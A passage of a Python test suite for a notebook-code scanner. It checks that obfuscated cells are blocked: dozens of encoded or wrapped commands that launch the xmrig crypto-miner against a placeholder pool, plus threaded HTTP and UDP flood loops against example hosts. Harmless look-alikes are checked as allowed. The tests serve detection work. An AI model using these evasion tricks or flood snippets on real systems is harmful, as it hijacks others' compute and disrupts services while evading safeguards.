    "format_map over a dict of parts": "import os\nos.system('{a}{b} -o pool.example.net:3333'.format_map({'a': 'xm', 'b': 'rig'}))",
    "format over a dict of decoded parts, spread with **": "import base64, subprocess\n"
        f"parts = {{k: base64.b64decode(v).decode() for k, v in {{'t': '{b64('xmrig')}'}}.items()}}\n"
        "subprocess.run('{t} -o pool.example.net:3333 -u WALLET'.format(**parts), shell=True)",
    "a wrapper whose callee is chosen by a flag": "import subprocess\n"
        "run = lambda c, bg=False: (subprocess.Popen if bg else subprocess.run)(c, shell=True)\n"
        f"run('{MINER}', True)",
    "a decorator that decodes every argument before the wrapper runs it": "import codecs, functools, subprocess\n"
        "def decoded(fn):\n    @functools.wraps(fn)\n    def inner(*words):\n"
        "        return fn([codecs.decode(w, 'rot13') for w in words])\n    return inner\n"
        "@decoded\ndef sh(argv):\n    return subprocess.run(argv)\n"
        f"sh({', '.join(repr(rot13(w)) for w in MINER.split())})",
    "a generator that yields the decoded words": "import base64, subprocess\ndef words():\n"
        f"    for w in {[b64(w) for w in MINER.split()]!r}:\n        yield base64.b64decode(w).decode()\n"
        "subprocess.run(list(words()))",
    "an asyncio subprocess given the words spread": "import asyncio\n"
        f"argv = {MINER.split()!r}\nasync def go():\n    await asyncio.create_subprocess_exec(*argv)",
    "a wrapper taking *argv given a generator of decoded words": "import codecs, subprocess\n"
        "def up(*argv):\n    return subprocess.Popen(list(argv))\n"
        f"up(*(codecs.decode(w, 'rot13') for w in {[rot13(w) for w in MINER.split()]!r}))",
    "posix_spawn named by its argv's first word": "import os, shutil\n"
        f"a = {MINER.split()!r}\nos.posix_spawn(shutil.which(a[0]) or a[0], a, os.environ)",
    "an argv list filtered of empty items": "import os, subprocess\n"
        f"argv = list(filter(None, {MINER.split()!r} + ['' if os.getenv('DBG') else '--background']))\n"
        "subprocess.run(argv)",
    "a decoder that assigns before it returns": "import os\ndef dx(h):\n    raw = bytes.fromhex(h)\n"
        f"    return bytes(c ^ 7 for c in raw).decode()\nos.system(dx('{bytes(ord(c) ^ 7 for c in MINER).hex()}'))",
    "an instance called with the command": "import codecs, subprocess\nclass Job:\n"
        "    def __call__(self, line):\n        return subprocess.run(line, shell=True)\n"
        f"Job()(codecs.decode('{rot13(MINER)}', 'rot13'))",
    "the words of a decoded command split in a loop, a placeholder replaced": "import base64, subprocess\n"
        f"tok = input()\nfor enc in ['{b64(MINER)}']:\n    argv = []\n"
        "    for part in base64.b64decode(enc).decode().split(' '):\n        argv.append(part.replace('@T@', tok))\n"
        "    subprocess.run(argv)",
    "a decoder that takes its codes as *args": "import os\no = lambda *xs: ''.join(chr(x + 40) for x in xs)\n"
        f"os.system(o({', '.join(str(ord(c) - 40) for c in MINER)}))",
    # the call's line names nothing: the wrapper is named for the tool and keeps its argv in a local first
    "a wrapper that builds its argv in a local, called on a line without a tool word": "import os, subprocess\n"
        "def tool(*args, bg=False):\n    cmd = [BIN, *args]\n"
        "    return subprocess.Popen(cmd) if bg else subprocess.run(cmd)\n"
        f"BIN = os.path.abspath('{MINER.split()[0]}')\ntool({', '.join(map(repr, MINER.split()[1:]))}, bg=True)",
    # the argv is made of several of the wrapper's parameters, and calls stand in loops and comprehensions
    "a wrapper called in a loop over the cell's list": "import subprocess\n"
        "def sh(c):\n    return subprocess.run(c, shell=True)\n"
        f"jobs = ['{MINER}']\nfor j in jobs:\n    sh(j)",
    "a wrapper called in a comprehension": "import subprocess\n"
        "def sh(c):\n    return subprocess.Popen(c.split())\n"
        f"jobs = ['{MINER}']\nprocs = [sh(j) for j in jobs]",
    "a configuration dict handed once to a class that runs one of its entries": "import os\n"
        f"CFG = {{'cmd': '{MINER}', 'retries': 2}}\nclass Job:\n    def __init__(self, cfg):\n        self.cfg = cfg\n"
        "    def run(self):\n        os.system(self.cfg['cmd'])\nJob(CFG).run()",
    "an async wrapper that spreads the argv it keeps": "import asyncio\nasync def start(pool, wallet):\n"
        "    argv = ['xmrig', '-o', pool, '-u', wallet]\n    return await asyncio.create_subprocess_exec(*argv)\n"
        "asyncio.run(start('pool.example.net:3333', 'WALLET'))",
    "a loop over itertools.product of the cell's lists": "import itertools, subprocess\n"
        "TOOLS = ['xmrig']\nPOOLS = ['pool.example.net:3333']\n"
        "for tool, pool in itertools.product(TOOLS, POOLS):\n    subprocess.Popen([tool, '-o', pool, '-u', 'WALLET'])",
    "a comprehension that starts each command": "import subprocess\n"
        f"jobs = ['{MINER}']\nprocs = [subprocess.Popen(j.split()) for j in jobs]",
}


@pytest.mark.parametrize("cell", WRAPPED.values(), ids=WRAPPED.keys())
def test_command_wrappers_are_read_as_the_command(engine, cell):
    assert_miner_blocked(engine, cell)


LOAD_WRAPPER = ("import subprocess\ndef hit(url, conns, secs='2h'):\n"
                "    return subprocess.Popen(['./bombardier', '-c', str(conns), '-d', secs, url])\n")


@pytest.mark.parametrize("call", [
    "hit('https://portal.example.org/login', 5000)",
    "targets = ['https://portal.example.org/login', 'https://api.example.org/']\n"
    "procs = [hit(u, c) for u in targets for c in [5000]]\nfor u in targets:\n    hit(u, 5000)",
])
def test_a_wrapper_whose_argv_takes_several_parameters_is_read_with_each(engine, call):
    """The target and the connection count reach the argv through two parameters: the finding needs both."""
    verdict = engine.check_code(LOAD_WRAPPER + call)
    assert verdict.action == "block" and "dos_attack.loadtest-unbounded" in exec_rules(verdict), verdict.to_dict()


@pytest.mark.parametrize("call", [
    "hit('http://127.0.0.1:8000/predict', 5000)",
    "hit('https://staging.example.org/', 20, '30s')",
])
def test_a_wrapper_of_several_parameters_pointed_at_ones_own_service_is_not_a_flood(engine, call):
    verdict = engine.check_code(LOAD_WRAPPER + call)
    assert "dos_attack.loadtest-unbounded" not in {f.rule for f in verdict.findings}, verdict.to_dict()


@pytest.mark.parametrize("command, blocked", [(MINER, True), ("nvidia-smi -L", False)])
def test_marshalled_configuration_is_read_back(engine, command, blocked):
    """A config kept as marshal bytes in base64 is plain data once read; it is judged by the command it holds."""
    blob = base64.b64encode(marshal.dumps({"job": {"argv": command.split(), "retries": 2, "tag": (1, None)}})).decode()
    verdict = engine.check_code(f"import base64, marshal, subprocess\ncfg = marshal.loads(base64.b64decode('{blob}'))\n"
                                "subprocess.Popen(cfg['job']['argv'])")
    if blocked:
        assert verdict.action == "block" and MINER_RULE in exec_rules(verdict), verdict.to_dict()
    else:
        assert verdict.action == "allow", verdict.to_dict()


def test_the_marshal_reader_reads_plain_data_and_refuses_the_rest():
    from nbwarden.analysis.decoders import unmarshal
    data = {"a": [1, -2, 2 ** 70, 1.5, "é", b"\x00", None, True], "b": ("x", frozenset({3}))}
    assert unmarshal(marshal.dumps(data)) == {"a": [1, -2, 2 ** 70, 1.5, "é", b"\x00", None, True], "b": ["x", [3]]}
    assert unmarshal(marshal.dumps(compile("print(1)", "cell", "exec"))) is None  # code is never rebuilt
    rng = random.Random(5)
    for _ in range(3000):  # arbitrary bytes: None or a value, never an exception
        unmarshal(bytes(rng.randrange(256) for _ in range(rng.randrange(1, 64))))
    assert unmarshal(b"[" + (2 ** 31 - 1).to_bytes(4, "little")) is None


def test_a_script_written_through_a_file_object_is_read_as_shell(engine):
    cell = f"with open('job.sh', 'w') as f:\n    f.write('{MINER}')\n!bash job.sh"
    verdict = engine.check_code(cell)
    assert verdict.action == "block" and MINER_RULE in {f.rule for f in verdict.findings}, verdict.to_dict()
    assert "written to job.sh" in " ".join(f.via for f in verdict.findings), verdict.to_dict()


@pytest.mark.parametrize("cell", [
    "import os, tempfile, subprocess\nfd, path = tempfile.mkstemp(suffix='.sh')\n"
    f"os.write(fd, '{MINER}'.encode())\nos.close(fd)\nsubprocess.Popen(['bash', path])",
    "import tempfile, subprocess\nwith tempfile.NamedTemporaryFile('w', suffix='.sh', delete=False) as f:\n"
    f"    f.write('{MINER}')\nsubprocess.Popen(['bash', f.name])",
])
def test_scripts_written_to_temporary_files_are_read_as_shell(engine, cell):
    verdict = engine.check_code(cell)
    assert verdict.action == "block" and MINER_RULE in {f.rule for f in verdict.findings}, verdict.to_dict()
    assert "written to .sh" in " ".join(f.via for f in verdict.findings), verdict.to_dict()


@pytest.mark.parametrize("cell", [
    "import subprocess\ndef sh(c):\n    return subprocess.check_output(c, shell=True).decode()\nprint(sh('nvidia-smi -L'))",
    "import os\nrun = lambda *a: os.system(' '.join(a))\nrun('pip', 'install', 'xgboost')",
    # the wrapped call takes a fixed command: the parameter only names a log (xmrig appears as a word in a path)
    "import subprocess\ndef log(msg):\n    subprocess.run(['logger', '-t', 'train'], input=msg.encode())\nlog('xmrig -o pool:1 is blocked here')",
    # an ordinary function of the same name and shape that does not run anything
    "def sh(c):\n    return c.upper()\nprint(sh('xmrig -o pool:1'))",
    # a method of the same name on a class that runs nothing, and a table of harmless functions
    "class Job:\n    def start(self, c):\n        return c.split()\nJob().start('xmrig -o pool:1')",
    "import os\nrun = {'go': os.system}\nrun['go']('nvidia-smi')",
    "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.system(b'nvidia-smi')",
    "with open('train.sh', 'w') as f:\n    f.write('python train.py --epochs 10')\n!bash train.sh",
    "import base64, subprocess\n"
    f"parts = {{k: base64.b64decode(v).decode() for k, v in {{'t': '{b64('nvidia-smi')}'}}.items()}}\n"
    "subprocess.run('{t} -L'.format(**parts), shell=True)",
    "import subprocess\nrun = lambda c, bg=False: (subprocess.Popen if bg else subprocess.run)(c, shell=True)\n"
    "run('python train.py --epochs 3', True)",
    "import os\no = lambda *xs: ''.join(chr(x + 40) for x in xs)\n"
    f"os.system(o({', '.join(str(ord(c) - 40) for c in 'nvidia-smi -L')}))",
    "import codecs, functools, subprocess\n"
    "def decoded(fn):\n    @functools.wraps(fn)\n    def inner(*words):\n"
    "        return fn([codecs.decode(w, 'rot13') for w in words])\n    return inner\n"
    "@decoded\ndef sh(argv):\n    return subprocess.run(argv)\n"
    f"sh({', '.join(repr(rot13(w)) for w in 'nvidia-smi -L'.split())})",
    "import base64, subprocess\ndef words():\n"
    f"    for w in {[b64(w) for w in 'nvidia-smi -L'.split()]!r}:\n        yield base64.b64decode(w).decode()\n"
    "subprocess.run(list(words()))",
    "import asyncio\nasync def go():\n    await asyncio.create_subprocess_exec(*['python', 'train.py', '--epochs', '3'])",
    "import os\ndef dx(h):\n    raw = bytes.fromhex(h)\n"
    f"    return bytes(c ^ 7 for c in raw).decode()\nos.system(dx('{bytes(ord(c) ^ 7 for c in 'nvidia-smi -L').hex()}'))",
    "import codecs, subprocess\nclass Job:\n    def __call__(self, line):\n        return subprocess.run(line, shell=True)\n"
    f"Job()(codecs.decode('{rot13('pip list')}', 'rot13'))",
    "import os, tempfile, subprocess\nfd, path = tempfile.mkstemp(suffix='.sh')\n"
    "os.write(fd, b'python train.py --epochs 3')\nos.close(fd)\nsubprocess.Popen(['bash', path])",
    "import os, subprocess\ndef tool(*args, bg=False):\n    cmd = [BIN, *args]\n"
    "    return subprocess.Popen(cmd) if bg else subprocess.run(cmd)\n"
    "BIN = os.path.abspath('nvidia-smi')\ntool('-L', bg=True)",
    "import subprocess\ndef start(prog, epochs, out='runs'):\n"
    "    return subprocess.Popen([prog, 'train.py', '--epochs', str(epochs), '--out', out])\nstart('python', 3)",
    "import subprocess\ndef sh(c):\n    return subprocess.run(c, shell=True)\n"
    "jobs = ['nvidia-smi -L', 'python train.py --epochs 3']\nfor j in jobs:\n    sh(j)",
    "import subprocess\njobs = ['python train.py --seed 1', 'python train.py --seed 2']\n"
    "procs = [subprocess.Popen(j.split()) for j in jobs]",
    "import os\nCFG = {'cmd': 'nvidia-smi -L', 'retries': 2}\nclass Job:\n    def __init__(self, cfg):\n"
    "        self.cfg = cfg\n    def run(self):\n        os.system(self.cfg['cmd'])\nJob(CFG).run()",
    "import asyncio\nasync def start(script, epochs):\n    argv = ['python', script, '--epochs', str(epochs)]\n"
    "    return await asyncio.create_subprocess_exec(*argv)\nasyncio.run(start('train.py', 3))",
    # a comprehension over the miner's words that starts nothing
    f"words = [w.upper() for w in '{MINER}'.split()]\nprint(words)",
])
def test_wrappers_of_ordinary_commands_and_look_alikes_are_allowed(engine, cell):
    assert_allowed(engine, cell)


# ---------------------------------------------------------------------------
# The folder stays total and bounded


@pytest.mark.parametrize("cell", [
    "s = 'a' * 300\nx = [[[c for c in s] for d in s] for e in s]\nimport os\nos.system(''.join(x[0][0]))",
    "f = lambda s: f(s) + f(s)\nimport os\nos.system(f('x'))",
    "f0 = lambda s: s + s\n" + "".join(f"f{i} = lambda s: f{i - 1}(f{i - 1}(s))\n" for i in range(1, 40))
    + "import os\nos.system(f39('x'))",
    "import zlib, base64\nexec(zlib.decompress(base64.b64decode('" + b64(zlib.compress(b"#" * 50_000_000)) + "')))",
    "d = lambda: 1\nimport os\nos.system(d(1, 2, 3) + getattr(os, d)(vars()[None]))",
])
def test_folding_work_is_bounded(engine, cell):
    # CPU time, not wall-clock: a loaded machine must not fail this; each case takes well under a second here
    start = time.process_time()
    verdict = engine.check_code(cell)
    assert time.process_time() - start < 5
    assert not verdict.error


# ---------------------------------------------------------------------------
# The web's own escapes (URL percent-encoding, HTML character references, JSON \u escapes), a command kept as an
# environment variable's default, and a module imported under a decoded name whose calls form a shape

def percent(text: str) -> str:
    return "".join(f"%{ord(c):02x}" for c in text)


WEB_ESCAPES = {
    "urllib unquote": f"import os, urllib.parse\nos.system(urllib.parse.unquote('{percent(MINER)}'))",
    "unquote imported by name": f"from urllib.parse import unquote\nimport os\nos.system(unquote('{percent(MINER)}'))",
    "html unescape": "import html, os\nos.system(html.unescape('" + "".join(f"&#{ord(c)};" for c in MINER) + "'))",
    "json string escapes": "import json, os\nos.system(json.loads('\"" + "".join(f"\\\\u{ord(c):04x}" for c in MINER) + "\"'))",
    "environment default": f"import os, subprocess\nsubprocess.run(['bash', '-c', os.environ.get('JOB', '{MINER}')])",
}


@pytest.mark.parametrize("cell", WEB_ESCAPES.values(), ids=WEB_ESCAPES.keys())
def test_web_escapes_and_environment_defaults_are_followed(engine, cell):
    assert_miner_blocked(engine, cell)


@pytest.mark.parametrize("cell", [
    f"import urllib.parse\nprint(urllib.parse.unquote('{percent('results for run 7')}'))",
    "import html, os\nos.system(html.unescape('ls &amp;&amp; nvidia-smi'))",
    "import json\ncfg = json.loads('{\"lr\": 0.1}')\nprint(cfg)",
    "import os, subprocess\nsubprocess.run(['bash', '-c', os.environ.get('JOB', 'python train.py --epochs 3')])",
])
def test_web_escapes_of_ordinary_text_are_allowed(engine, cell):
    assert_allowed(engine, cell)


FLOOD_BODY = ("def hit():\n    while True:\n        net.get('http://shop.example.net/')\n"
              "for _ in range(500):\n    threading.Thread(target=hit).start()")


@pytest.mark.parametrize("cell", [
    "import threading\nnet = __import__('requests')\n" + FLOOD_BODY,
    f"import codecs, threading\nnet = __import__(codecs.decode('{rot13('requests')}', 'rot13'))\n" + FLOOD_BODY,
    f"import importlib, threading\nnet = importlib.import_module(bytes.fromhex('{hexed('requests')}').decode())\n"
    + FLOOD_BODY,
    "import requests, threading\nfetch = getattr(requests, 'g' + 'et')\ndef hit():\n    while True:\n"
    "        fetch('http://shop.example.net/')\nfor _ in range(500):\n    threading.Thread(target=hit).start()",
    "import socket, os\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfire = s.sendto\nblob = os.urandom(1024)\n"
    "while True:\n    fire(blob, ('203.0.113.9', 80))",
])
def test_calls_reached_through_a_decoded_import_or_a_bound_name_keep_their_shape(engine, cell):
    verdict = engine.check_code(cell)
    assert verdict.category == "dos_attack" and verdict.action in ("warn", "block"), verdict.to_dict()


@pytest.mark.parametrize("cell", [
    "import requests\nfetch = getattr(requests, 'g' + 'et')\nfor page in range(3):\n"
    "    print(fetch(f'https://api.example.org/items?page={page}').json())",
    "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nreply = s.sendto\nwhile True:\n"
    "    data, peer = s.recvfrom(2048)\n    reply(data.upper(), peer)",
    "import threading, time\nnet = __import__('requests')\ndef poll():\n    while True:\n"
    "        print(net.get('https://status.example.org').status_code)\n        time.sleep(60)\n"
    "threading.Thread(target=poll).start()",
])
def test_bound_names_of_ordinary_calls_are_allowed(engine, cell):
    assert_allowed(engine, cell)



# ---------------------------------------------------------------------------
# Ciphers with a key, tables of steps and of functions (an independent evasion probe's hard cells)

def xored(text: str, key: bytes) -> str:
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(text.encode())).hex()


TABLES = {
    "xor with a key over enumerate, written to a script and run":
        "import os, subprocess\nk = b'k3y'\n"
        f"raw = bytes.fromhex('{xored(MINER, b'k3y')}')\np = os.path.expanduser('~/.bench.sh')\n"
        "with open(p, 'wb') as fh:\n    fh.write(bytes(x ^ k[i % len(k)] for i, x in enumerate(raw)))\n"
        "subprocess.run(['bash', p])",
    "a table decoded by a dict comprehension, filled into command templates in a loop":
        "import subprocess\nk = b'wl'\nx = lambda h: bytes(b ^ k[i % 2] for i, b in enumerate(bytes.fromhex(h))).decode()\n"
        f"P = {{n: x(v) for n, v in {{'t': '{xored('xmrig', b'wl')}'}}.items()}}\n"
        "steps = ['nvidia-smi', '{t} -o pool.example.net:3333 -u WALLET']\nfor s in steps:\n"
        "    subprocess.run(s.format_map(P), shell=True)",
    "an alphabet shifted with str.translate over string constants":
        "import os, string\nA = string.ascii_letters\nu = lambda s: s.translate(str.maketrans(A[3:] + A[:3], A))\n"
        f"os.system(u('{MINER.translate(str.maketrans('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ', 'defghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZabc'))}'))",
    "runners kept in a list of lambdas, picked by index in a loop":
        "import os, subprocess\nops = [lambda c: os.system(c), lambda c: subprocess.Popen(c, shell=True)]\n"
        f"for i, c in [(0, 'ls'), (1, '{MINER[::-1]}'[::-1])]:\n    ops[i](c)",
    "runners kept in a list by name": f"import os, subprocess\nops = [subprocess.call, os.system]\nops[1]('{MINER}')",
    "runners kept in a dict of lambdas": f"import os\nops = {{'go': lambda c: os.system(c)}}\nops['go']('{MINER}')",
    "a runner picked with min() over enumerate":
        "import subprocess\nsteps = [lambda s: subprocess.run(s, shell=True), lambda s: subprocess.Popen(s, shell=True)]\n"
        f"for i, p in enumerate(['nvidia-smi', '{MINER}']):\n    steps[min(i, 1)](p)",
    "a command kept in os.environ and read back": f"import os, base64\nos.environ['JOB'] = base64.b64decode('{b64(MINER)}').decode()\n"
                                                  "os.system(os.environ['JOB'])",
    "a command kept with os.environ.update and read back":
        f"import os\nos.environ.update({{'JOB': '{MINER[::-1]}'[::-1], 'HOME2': '/content'}})\nos.system(os.environ['JOB'])",
    "a command read back with os.getenv": f"import os\nos.environ['JOB'] = '{MINER}'\nos.system(os.getenv('JOB'))",
    "a wrapper that decodes its argument before running it, kept in a table":
        "import base64, codecs, subprocess\nd = lambda t: codecs.decode(base64.b64decode(t).decode(), 'rot13')\n"
        "run = [lambda t: subprocess.run(d(t), shell=True)]\n"
        f"for i, t in enumerate(['{b64(rot13(MINER))}']):\n    run[i](t)",
    "a compressed payload in a base64 literal handed to a generator":
        "import zlib, base64, subprocess\ndef steps(b):\n"
        "    for line in zlib.decompress(base64.b64decode(b)).decode().split('\\n'):\n        yield line\n"
        f"for c in steps('{zipped64('cd /tmp' + chr(10) + MINER)}'):\n    subprocess.run(c, shell=True)",
    "getattr through a helper lambda": f"import os\ng = lambda o, n: getattr(o, n[::-1])\ng(os, 'metsys')('{MINER}')",
    "a helper's look-up bound to a name": f"import os\ng = lambda o, n: getattr(o, n[::-1])\nrun = g(os, 'metsys')\nrun('{MINER}')",
    "__import__ through a helper lambda": f"imp = lambda n: __import__(n[::-1])\nimp('so').system('{MINER}')",
    "a runner picked from a list written in place": f"import os\nrun = [os.system][0]\nrun('{MINER}')",
    "a runner picked from a dict written in place": f"import subprocess\n{{'go': subprocess.run}}['go']('{MINER}', shell=True)",
    "an argv list built item by item from decoded words": "import base64, subprocess\nargv = []\n"
        f"for w in {[b64(w) for w in MINER.split()]!r}:\n    argv.append(base64.b64decode(w).decode())\n"
        "subprocess.run(argv)",
    "argv lists built by appends in nested loops": "import base64, subprocess\n"
        f"segs = [{[b64(w) for w in 'ls -la'.split()]!r}, {[b64(w) for w in MINER.split()]!r}]\n"
        "for seg in segs:\n    argv = []\n    for t in seg:\n        argv.append(base64.b64decode(t).decode())\n"
        "    subprocess.run(argv)",
    "a key repeated with itertools.cycle": "import itertools, os\n"
        f"cmd = bytes(a ^ b for a, b in zip(bytes.fromhex('{xored(MINER, b'q7')}'), itertools.cycle(b'q7'))).decode()\n"
        "os.system(cmd)",
    "a class built once inside another function, from a constant": "import base64, subprocess\n"
        "class Boot:\n    def __init__(self, blob):\n        text = base64.b64decode(blob).decode()\n"
        "        for line in text.split('\\n'):\n            subprocess.run(line, shell=True)\n"
        f"def main():\n    Boot('{b64('cd /tmp' + chr(10) + MINER)}')\nmain()",
    "commands decoded in a class's __init__ from the one constant it is built with": "import base64, subprocess\n"
        "class Boot:\n    def __init__(self, blob):\n        text = base64.b64decode(blob).decode()\n"
        "        for line in text.split('\\n'):\n            subprocess.run(line, shell=True)\n"
        f"Boot('{b64('cd /tmp' + chr(10) + MINER)}')",
    "a callable class keeping its encoded steps from *parts, decoded by a method of its own":
        "import subprocess\nclass Job:\n    K = b'Z7'\n    def __init__(self, *parts):\n        self.parts = parts\n"
        "    def _x(self, h):\n        b = bytes.fromhex(h)\n        return bytes(c ^ self.K[i % 2] for i, c in enumerate(b)).decode()\n"
        "    def __call__(self):\n        for p in self.parts:\n            subprocess.run(self._x(p), shell=True)\n"
        f"Job('{xored('nvidia-smi', b'Z7')}', '{xored(MINER, b'Z7')}')()",
    "a base class whose property decodes what each subclass keeps, run for every subclass":
        "import os, subprocess\nK = b'nb'\nclass Svc:\n    _enc = []\n    @property\n    def argv(self):\n"
        "        return [bytes(c ^ K[i % 2] for i, c in enumerate(bytes.fromhex(p))).decode() for p in self._enc]\n"
        "    def start(self):\n        a = self.argv\n        return subprocess.Popen(a)\n"
        f"class Warm(Svc):\n    _enc = ['{xored('nvidia-smi', b'nb')}']\n"
        f"class Job(Svc):\n    _enc = {[xored(w, b'nb') for w in MINER.split()]!r}\n"
        "procs = [cls().start() for cls in Svc.__subclasses__()]",
    "a decorator factory whose parameters hold the reversed argv, spread into the decorated function":
        "import subprocess\ndef staged(*keys):\n    def deco(fn):\n        def w():\n"
        "            return fn(*(k[::-1] for k in keys))\n        return w\n    return deco\n"
        "@staged('girmx', '3333:ten.elpmaxe.loop')\ndef start(b, p):\n"
        "    return subprocess.Popen([b, '-o', p, '-u', 'WALLET'])\nstart()",
    "a decorator factory's shift applied to the words the decorated function gets":
        "import subprocess\ndef shifted(n):\n    def deco(fn):\n        def inner(*words):\n"
        "            return fn([''.join(chr(ord(c) - n) for c in w) for w in words])\n        return inner\n    return deco\n"
        "@shifted(2)\ndef sh(argv):\n    subprocess.run(argv)\n"
        f"sh({', '.join(repr(''.join(chr(ord(c) + 2) for c in w)) for w in MINER.split())})",
    "settings kept in os.environ, pulled and decoded by a decorator factory, spread into the runner":
        "import os, subprocess\n"
        "os.environ.update({'P_BIN': 'girmx', 'P_POOL': '3333:ten.elpmaxe.loop'})\n"
        "def from_env(*keys):\n    def deco(fn):\n        def w():\n"
        "            return fn(*(os.environ[k][::-1] for k in keys))\n        return w\n    return deco\n"
        "@from_env('P_BIN', 'P_POOL')\ndef start(b, p):\n"
        "    return subprocess.Popen([b, '-o', p, '-u', 'WALLET'])\nproc = start()",
    "a dataclass's fields filled into a string.Template by a method called on a new instance":
        "import shlex, subprocess, base64\nfrom dataclasses import dataclass\nfrom string import Template\n@dataclass\n"
        f"class Job:\n    pool: str = 'pool.example.net:3333'\n    exe: str = base64.b32decode('{base64.b32encode(b'xmrig').decode()}').decode()\n"
        "    def argv(self):\n        t = Template('$exe -o $pool -u WALLET')\n        return shlex.split(t.substitute(vars(self)))\n"
        "subprocess.run((j := Job()).argv())",
    "a script written to a path made with the process id, then run":
        "import os, base64, subprocess\npath = os.path.join('/tmp', 'job_' + str(os.getpid()) + '.sh')\n"
        f"with open(path, 'w') as fh:\n    fh.write('cd /tmp\\n{MINER}\\n')\nsubprocess.run(['bash', path])",
}


@pytest.mark.parametrize("cell", TABLES.values(), ids=TABLES.keys())
def test_keyed_ciphers_and_tables_are_followed(engine, cell):
    if "fh.write(" in cell or "yield" in cell:  # a written script, a literal's payload: read as code, not as run
        verdict = engine.check_code(cell)
        assert verdict.action == "block" and MINER_RULE in {f.rule for f in verdict.findings}, verdict.to_dict()
    else:
        assert_miner_blocked(engine, cell)


TABLES_BENIGN = {
    "xor-decoded config written and read":
        "import json\nk = b'k3y'\n"
        f"raw = bytes.fromhex('{xored(CONFIG, b'k3y')}')\nopen('cfg.json', 'wb').write(bytes(x ^ k[i % len(k)] for i, x in enumerate(raw)))\n"
        "print(json.load(open('cfg.json')))",
    "a loop over ordinary steps": "import subprocess\nsteps = ['nvidia-smi', 'pip list', 'ls {d}']\n"
                                  "for s in steps:\n    subprocess.run(s.format(d='/content'), shell=True)",
    "a list of printing lambdas": f"ops = [lambda c: print(c), lambda c: len(c)]\nops[0]('{MINER}')",
    "a loop over many data rows": "import os\nrows = [f'file_{i}.csv' for i in range(500)]\nfor r in rows:\n    os.system('wc -l ' + r)",
    "a compressed config in a base64 literal": "import zlib, base64, json\n"
                                              f"cfg = json.loads(zlib.decompress(base64.b64decode('{zipped64(CONFIG)}')))",
    "a wrapper that decodes an ordinary command": "import base64, subprocess\nd = lambda t: base64.b64decode(t).decode()\n"
                                                  "run = lambda t: subprocess.run(d(t), shell=True)\n"
                                                  f"run('{b64('ls -la /content')}')",
    "argv lists of ordinary commands built in nested loops": "import base64, subprocess\n"
        f"segs = [{[b64(w) for w in 'ls -la'.split()]!r}, {[b64(w) for w in 'nvidia-smi -L'.split()]!r}]\n"
        "for seg in segs:\n    argv = []\n    for t in seg:\n        argv.append(base64.b64decode(t).decode())\n"
        "    subprocess.run(argv)",
    "a downloader's options appended from a dict, its BitTorrent switched off":
        "import subprocess\nopts = {'split': 8, 'dir': '/content/data', 'enable-dht': 'false', 'follow-torrent': 'false'}\n"
        "argv = ['aria2c']\nfor k, v in opts.items():\n    argv.append(f'--{k}={v}')\n"
        "subprocess.run(argv + ['https://example.org/data.tgz'])",
    "a config decoded with a cycled key": "import itertools, json\n"
        f"raw = bytes(a ^ b for a, b in zip(bytes.fromhex('{xored(CONFIG, b'q7')}'), itertools.cycle(b'q7')))\n"
        "print(json.loads(raw))",
    "ordinary commands decoded in a class's __init__ from the constant it is built with": "import base64, subprocess\n"
        "class Boot:\n    def __init__(self, blob):\n        text = base64.b64decode(blob).decode()\n"
        "        for line in text.split('\\n'):\n            subprocess.run(line, shell=True)\n"
        f"Boot('{b64('cd /tmp' + chr(10) + 'nvidia-smi -L')}')",
    "a callable class running ordinary steps decoded by a method of its own":
        "import subprocess\nclass Job:\n    K = b'Z7'\n    def __init__(self, *parts):\n        self.parts = parts\n"
        "    def _x(self, h):\n        b = bytes.fromhex(h)\n        return bytes(c ^ self.K[i % 2] for i, c in enumerate(b)).decode()\n"
        "    def __call__(self):\n        for p in self.parts:\n            subprocess.run(self._x(p), shell=True)\n"
        f"Job('{xored('nvidia-smi', b'Z7')}', '{xored('ls -la /content', b'Z7')}')()",
    "a base class whose property decodes ordinary commands kept by its subclasses":
        "import os, subprocess\nK = b'nb'\nclass Svc:\n    _enc = []\n    @property\n    def argv(self):\n"
        "        return [bytes(c ^ K[i % 2] for i, c in enumerate(bytes.fromhex(p))).decode() for p in self._enc]\n"
        "    def start(self):\n        a = self.argv\n        return subprocess.Popen(a)\n"
        f"class Warm(Svc):\n    _enc = ['{xored('nvidia-smi', b'nb')}']\n"
        f"class Job(Svc):\n    _enc = {[xored(w, b'nb') for w in 'ls -la /content'.split()]!r}\n"
        "procs = [cls().start() for cls in Svc.__subclasses__()]",
    "a decorator factory whose parameters hold an ordinary reversed argv":
        "import subprocess\ndef staged(*keys):\n    def deco(fn):\n        def w():\n"
        "            return fn(*(k[::-1] for k in keys))\n        return w\n    return deco\n"
        "@staged('ims-aidivn', 'lsv')\ndef start(b, p):\n    return subprocess.Popen([b, '--format', p])\nstart()",
    "ordinary settings kept in os.environ, pulled by a decorator factory":
        "import os, subprocess\nos.environ.update({'P_BIN': 'ims-aidivn', 'P_FMT': 'vsc'})\n"
        "def from_env(*keys):\n    def deco(fn):\n        def w():\n"
        "            return fn(*(os.environ[k][::-1] for k in keys))\n        return w\n    return deco\n"
        "@from_env('P_BIN', 'P_FMT')\ndef start(b, f):\n    return subprocess.Popen([b, '--format', f])\nproc = start()",
    "a dataclass's fields filled into an ordinary command template":
        "import shlex, subprocess, base64\nfrom dataclasses import dataclass\nfrom string import Template\n@dataclass\n"
        f"class Job:\n    fmt: str = 'csv'\n    exe: str = base64.b32decode('{base64.b32encode(b'nvidia-smi').decode()}').decode()\n"
        "    def argv(self):\n        t = Template('$exe --format $fmt')\n        return shlex.split(t.substitute(vars(self)))\n"
        "subprocess.run((j := Job()).argv())",
    "an ordinary function picked from a list written in place": "import os\nwhere = [os.getcwd][0]\nprint(where())",
    "a helper look-up of an ordinary function": "import os\ng = lambda o, n: getattr(o, n[::-1])\nprint(g(os, 'dwcteg')())",
    "a device chosen with os.environ.update and read back":
        "import os\nos.environ.update({'CUDA_VISIBLE_DEVICES': '0'[::-1]})\nos.system('nvidia-smi -i ' + os.environ['CUDA_VISIBLE_DEVICES'])",
    "a device chosen in os.environ and read back": "import os\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\n"
